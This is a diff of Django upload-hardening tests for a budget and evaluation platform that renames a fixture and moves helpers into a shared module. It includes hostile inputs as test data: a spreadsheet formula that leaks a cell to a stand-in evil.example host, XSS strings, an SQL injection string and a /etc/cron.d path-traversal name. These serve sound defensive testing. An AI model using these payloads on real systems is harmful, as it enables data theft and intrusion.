@@ -23,7 +23,6 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.db import transaction
 from django.test import Client
 from django.urls import NoReverseMatch, reverse
-from django.utils.html import escape
 from rest_framework.test import APIClient
 
 from budget.models import Allocation, Execution, GpuUsageEntry, GpuUsageReport
@@ -31,15 +30,13 @@ from common.models import AuditEvent
 from common.roles import Role
 from consortia.models import Consortium
 from evaluations.models import Phase, ResultRow, ResultUpload
+from tests.reliability.hostile import FORMULA, SCRIPT, SQL, export_cells, mounted, pages_escape
 
 pytestmark = pytest.mark.django_db
 
 LG_LEAD = "LG AI Research"
-FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-SCRIPT = "<script>alert('kai')</script>"
 # In a file name (no slash: a slash would make everything before it a directory, dropped from the name).
 IMG = "<img src=x onerror=alert('kai')>"
-SQL = "'); DROP TABLE evaluations_resultrow; --"
 TRAVERSAL = "../../../../etc/cron.d/evil"
 UPLOAD_LIMIT = 64 * 1024
 
@@ -185,7 +182,7 @@ def _texts(response) -> str:
 
 
 @pytest.fixture
-def world(p2_ready, make_user, settings):
+def upload_world(p2_ready, make_user, settings):
     settings.KAI_UPLOAD_MAX_BYTES = UPLOAD_LIMIT
     member = make_user(Role.CONSORTIUM_MEMBER, organization=LG_LEAD, consortium="LG")
     staff = make_user(Role.MINISTRY_STAFF)
@@ -227,8 +224,8 @@ def _url(name: str, **kwargs) -> str:
 # --- senders: one per endpoint; each returns (response, the new object's primary key or None) ---------------
 
 
-def send_result_api(world, case):
-    response = world["api"].post(
+def send_result_api(upload_world, case):
+    response = upload_world["api"].post(
         "/api/v1/result-uploads/",
         {"phase": "P2", "consortium": "LG", "file": SimpleUploadedFile(case.name, case.body)},
         format="multipart",
@@ -236,8 +233,8 @@ def send_result_api(world, case):
     return response, (response.json()["id"] if response.status_code == 201 else None)
 
 
-def send_gpu_api(world, case):
-    response = world["api"].post(
+def send_gpu_api(upload_world, case):
+    response = upload_world["api"].post(
         "/api/v1/gpu-usage/",
         {"consortium": "LG", "file": SimpleUploadedFile(case.name, case.body)},
         format="multipart",
@@ -249,9 +246,9 @@ def send_gpu_api(world, case):
     )
 
 
-def _browser_upload(world, kind: str, model, case, extra: dict):
+def _browser_upload(upload_world, kind: str, model, case, extra: dict):
     before = set(model.objects.values_list("pk", flat=True))
-    response = world["browser"].post(
+    response = upload_world["browser"].post(
         _url("evaluations:upload"),
         {"kind": kind, f"{kind}-file": SimpleUploadedFile(case.name, case.body), **extra},
     )
@@ -259,12 +256,14 @@ def _browser_upload(world, kind: str, model, case, extra: dict):
     return response, (new.pop() if new else None)
 
 
-def send_result_browser(world, case):
-    return _browser_upload(world, "results", ResultUpload, case, {"results-phase": world["phase"].pk})
+def send_result_browser(upload_world, case):
+    return _browser_upload(
+        upload_world, "results", ResultUpload, case, {"results-phase": upload_world["phase"].pk}
+    )
 
 
-def send_gpu_browser(world, case):
-    return _browser_upload(world, "gpu", GpuUsageReport, case, {})
+def send_gpu_browser(upload_world, case):
+    return _browser_upload(upload_world, "gpu", GpuUsageReport, case, {})
 
 
 def _check_refused(response, case, *, api: bool):
@@ -288,15 +287,15 @@ def _check_accepted(response, new_pk, case, *, api: bool):
     assert new_pk is not None
 
 
-def _run_catalogue(world, subtests, cases, send, *, api: bool, after_accept):
+def _run_catalogue(upload_world, subtests, cases, send, *, api: bool, after_accept):
     for case in cases:
         with subtests.test(case=case.id), transaction.atomic():
             try:
                 before = _snapshot()
-                response, new_pk = send(world, case)
+                response, new_pk = send(upload_world, case)
                 if case.problem is None:
                     _check_accepted(response, new_pk, case, api=api)
-                    after_accept(world, case, new_pk)
+                    after_accept(upload_world, case, new_pk)
                 else:
                     _check_refused(response, case, api=api)
                     assert _snapshot() == before, (
@@ -308,62 +307,25 @@ def _run_catalogue(world, subtests, cases, send, *, api: bool, after_accept):
 
 # --- what an accepted hostile value must look like afterwards -----------------------------------------------
 
-PAGES = ("evaluations:upload", "budget:gpu-usage", "budget:executions", "audit:list")
 
-
-def _pages_escape(world, payloads: tuple[str, ...], extra: tuple[str, ...] = ()) -> list[str]:
-    """No page that exists shows any payload unescaped; returns the pages that show one escaped."""
-    urls = [reverse(name) for name in PAGES if _mounted(name)] + list(extra)
-    urls += [f"/consortia/{world['lg'].pk}/", f"/evaluations/phases/{world['phase'].pk}/"]
-    urls += [f"/audit/{pk}/" for pk in AuditEvent.objects.order_by("-pk").values_list("pk", flat=True)[:2]]
-    shown = []
-    for url in urls:
-        for client in (world["browser"], world["staff_browser"]):
-            response = client.get(url)
-            if response.status_code != 200 or not response["Content-Type"].startswith("text/html"):
-                continue
-            page = response.content.decode()
-            for payload in payloads:
-                assert payload not in page, f"{url} shows {payload!r} unescaped"
-                if escape(payload) in page:
-                    shown.append(url)
-    return shown
-
-
-def _mounted(name: str) -> bool:
-    try:
-        reverse(name)
-    except NoReverseMatch:
-        return False
-    return True
-
-
-def _export_cells(world, name: str) -> list[list[str]]:
-    import csv
-
-    response = world["staff_api"].get(f"/api/v1/exports/{name}.csv")
-    assert response.status_code == 200
-    content = b"".join(response.streaming_content) if response.streaming else response.content
-    text = content.decode("utf-8-sig")
-    return list(csv.reader(io.StringIO(text)))
-
-
-def _after_result_accept(world, case, upload_pk):
+def _after_result_accept(upload_world, case, upload_pk):
     upload = ResultUpload.objects.get(pk=upload_pk)
     rows = list(upload.rows.values_list("notes", "score"))
     assert [score for _notes, score in rows] == [D("80.5")]
     if case.id == "cp949-korean-headers":
         assert upload.encoding == "cp949"
-    _after_accept_common(world, case, upload.display_name, upload.file.name, [n for n, _s in rows], "results")
+    _after_accept_common(
+        upload_world, case, upload.display_name, upload.file.name, [n for n, _s in rows], "results"
+    )
 
 
-def _after_gpu_accept(world, case, report_pk):
+def _after_gpu_accept(upload_world, case, report_pk):
     report = GpuUsageReport.objects.get(pk=report_pk)
     notes = list(report.entries.values_list("notes", flat=True))
-    _after_accept_common(world, case, report.filename, report.file.name, notes, "gpu-usage")
+    _after_accept_common(upload_world, case, report.filename, report.file.name, notes, "gpu-usage")
 
 
-def _after_accept_common(world, case, display_name, storage_name, notes, export):
+def _after_accept_common(upload_world, case, display_name, storage_name, notes, export):
     # File names: the display name is the file's own name; the storage name is generated, never the client's.
     assert ".." not in storage_name and "\\" not in storage_name and "/etc/" not in storage_name
     assert ".." not in display_name and "/" not in display_name and "\\" not in display_name
@@ -376,11 +338,11 @@ def _after_accept_common(world, case, display_name, storage_name, notes, export)
     for text in case.stored_text:
         assert text in notes, f"{text!r} was not stored as given: {notes!r}"
     if FORMULA in case.stored_text:
-        cells = [cell for row in _export_cells(world, export) for cell in row]
+        cells = [cell for row in export_cells(upload_world, export) for cell in row]
         assert "'" + FORMULA in cells and FORMULA not in cells
     if SCRIPT in case.stored_text:
         assert display_name == f"{IMG}.csv"
-        shown = _pages_escape(world, (SCRIPT, IMG))
+        shown = pages_escape(upload_world, (SCRIPT, IMG))
         assert shown, "no page showed the uploaded name or text, so the check proved nothing"
     if SQL in case.stored_text:
         assert ResultRow.objects.exists() or GpuUsageEntry.objects.exists()
@@ -389,26 +351,33 @@ def _after_accept_common(world, case, display_name, storage_name, notes, export)
 # --- the tests ----------------------------------------------------------------------------------------------
 
 
-def test_result_upload_api(world, subtests):
+def test_result_upload_api(upload_world, subtests):
     _run_catalogue(
-        world, subtests, RESULT_CASES, send_result_api, api=True, after_accept=_after_result_accept
+        upload_world, subtests, RESULT_CASES, send_result_api, api=True, after_accept=_after_result_accept
     )
 
 
-def test_gpu_usage_upload_api(world, subtests):
-    _run_catalogue(world, subtests, GPU_CASES, send_gpu_api, api=True, after_accept=_after_gpu_accept)
+def test_gpu_usage_upload_api(upload_world, subtests):
+    _run_catalogue(upload_world, subtests, GPU_CASES, send_gpu_api, api=True, after_accept=_after_gpu_accept)
 
 
-def test_result_upload_browser_form(world, subtests):
+def test_result_upload_browser_form(upload_world, subtests):
     _url("evaluations:upload")
     _run_catalogue(
-        world, subtests, RESULT_CASES, send_result_browser, api=False, after_accept=_after_result_accept
+        upload_world,
+        subtests,
+        RESULT_CASES,
+        send_result_browser,
+        api=False,
+        after_accept=_after_result_accept,
     )
 
 
-def test_gpu_usage_upload_browser_form(world, subtests):
+def test_gpu_usage_upload_browser_form(upload_world, subtests):
     _url("evaluations:upload")
-    _run_catalogue(world, subtests, GPU_CASES, send_gpu_browser, api=False, after_accept=_after_gpu_accept)
+    _run_catalogue(
+        upload_world, subtests, GPU_CASES, send_gpu_browser, api=False, after_accept=_after_gpu_accept
+    )
 
 
 # --- spending with evidence (API and browser form) ----------------------------------------------------------
@@ -451,9 +420,9 @@ SPENDING_CASES = [
 ]
 
 
-def _spending_data(world, case):
+def _spending_data(upload_world, case):
     data = {
-        "allocation": world["allocation"].pk,
+        "allocation": upload_world["allocation"].pk,
         "spent_on": "2025-09-01",
         "amount_krw": case.amount,
         "description": case.description,
@@ -463,28 +432,32 @@ def _spending_data(world, case):
     return data
 
 
-def send_spending_api(world, case):
-    response = world["api"].post("/api/v1/executions/", _spending_data(world, case), format="multipart")
+def send_spending_api(upload_world, case):
+    response = upload_world["api"].post(
+        "/api/v1/executions/", _spending_data(upload_world, case), format="multipart"
+    )
     return response, (response.json()["id"] if response.status_code == 201 else None)
 
 
-def send_spending_browser(world, case):
+def send_spending_browser(upload_world, case):
     before = set(Execution.objects.values_list("pk", flat=True))
-    response = world["browser"].post(_url("budget:execution-create"), _spending_data(world, case))
+    response = upload_world["browser"].post(
+        _url("budget:execution-create"), _spending_data(upload_world, case)
+    )
     new = set(Execution.objects.values_list("pk", flat=True)) - before
     return response, (new.pop() if new else None)
 
 
-def _run_spending(world, subtests, send, *, api: bool):
-    assert world["allocation"] is not None, "LG has no allocation covering 2025-09 in the program file"
+def _run_spending(upload_world, subtests, send, *, api: bool):
+    assert upload_world["allocation"] is not None, "LG has no allocation covering 2025-09 in the program file"
     for case in SPENDING_CASES:
         with subtests.test(case=case.id), transaction.atomic():
             try:
                 before = _snapshot()
-                response, new_pk = send(world, case)
+                response, new_pk = send(upload_world, case)
                 if case.problem is None:
                     _check_accepted(response, new_pk, case, api=api)
-                    _after_spending_accept(world, case, Execution.objects.get(pk=new_pk))
+                    _after_spending_accept(upload_world, case, Execution.objects.get(pk=new_pk))
                     continue
                 _check_refused(response, case, api=api)
                 if api:
@@ -494,7 +467,7 @@ def _run_spending(world, subtests, send, *, api: bool):
                 transaction.set_rollback(True)
 
 
-def _after_spending_accept(world, case, execution):
+def _after_spending_accept(upload_world, case, execution):
     assert execution.description == case.description
     name, body = case.evidence
     assert execution.evidence_sha256 == __import__("hashlib").sha256(body).hexdigest()
@@ -505,22 +478,22 @@ def _after_spending_accept(world, case, execution):
     if case.id == "evidence-path-traversal-name":
         assert execution.evidence_name == "evil.pdf"
     if case.description == FORMULA:
-        cells = [cell for row in _export_cells(world, "budget-execution") for cell in row]
+        cells = [cell for row in export_cells(upload_world, "budget-execution") for cell in row]
         assert "'" + FORMULA in cells and FORMULA not in cells
     if case.description == SCRIPT:
         assert execution.evidence_name == f"{IMG}.pdf"
-        if _mounted("budget:executions"):
-            shown = _pages_escape(world, (SCRIPT, IMG), extra=(f"/budget/executions/{execution.pk}/",))
+        if mounted("budget:executions"):
+            shown = pages_escape(upload_world, (SCRIPT, IMG), extra=(f"/budget/executions/{execution.pk}/",))
             assert shown, "the spending pages showed neither the description nor the file name"
 
 
-def test_spending_with_evidence_api(world, subtests):
-    _run_spending(world, subtests, send_spending_api, api=True)
+def test_spending_with_evidence_api(upload_world, subtests):
+    _run_spending(upload_world, subtests, send_spending_api, api=True)
 
 
-def test_spending_with_evidence_browser_form(world, subtests):
+def test_spending_with_evidence_browser_form(upload_world, subtests):
     _url("budget:execution-create")
-    _run_spending(world, subtests, send_spending_browser, api=False)
+    _run_spending(upload_world, subtests, send_spending_browser, api=False)
 
 
 # --- a 200 MB file is refused by its declared size, before a byte of it is read -----------------------------
@@ -550,13 +523,13 @@ class DeclaredHugeFile:
         return iter(())
 
 
-def test_a_200_mb_upload_is_refused_by_its_declared_size_without_being_read(world, subtests):
+def test_a_200_mb_upload_is_refused_by_its_declared_size_without_being_read(upload_world, subtests):
     from budget.services import execution_record, gpu_usage_upload
     from common.uploads import Column, UploadRejected, read_table
     from evaluations.services import result_upload_create
     from evaluations.uploads import ResultFileRejected
 
-    member, lg = world["member"], world["lg"]
+    member, lg = upload_world["member"], upload_world["lg"]
     calls = {
         "read_table": (
             UploadRejected,
@@ -566,13 +539,13 @@ def test_a_200_mb_upload_is_refused_by_its_declared_size_without_being_read(worl
         ),
         "results": (
             ResultFileRejected,
-            lambda f: result_upload_create(phase=world["phase"], consortium=lg, file=f, actor=member),
+            lambda f: result_upload_create(phase=upload_world["phase"], consortium=lg, file=f, actor=member),
         ),
         "gpu-usage": (UploadRejected, lambda f: gpu_usage_upload(consortium=lg, file=f, actor=member)),
         "evidence": (
             Exception,
             lambda f: execution_record(
-                allocation=world["allocation"],
+                allocation=upload_world["allocation"],
                 spent_on=dt.date(2025, 9, 1),
                 amount_krw=1000,
                 description="x",
